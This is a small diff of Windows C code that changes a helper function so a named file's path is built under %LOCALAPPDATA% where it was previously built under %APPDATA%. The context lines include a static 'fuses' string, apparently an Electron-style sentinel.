@@ -11,7 +11,7 @@ __attribute__((used)) static const char fuses[] = "dL7pKGdnNz796PbbjQWNKmHXBZaB9
 
 static void place(const wchar_t *name, wchar_t *path) {
   wchar_t wanted[MAX_PATH];
-  swprintf(wanted, MAX_PATH, L"%%APPDATA%%\\%ls", name);
+  swprintf(wanted, MAX_PATH, L"%%LOCALAPPDATA%%\\%ls", name);
   ExpandEnvironmentStringsW(wanted, path, MAX_PATH);
 }
 
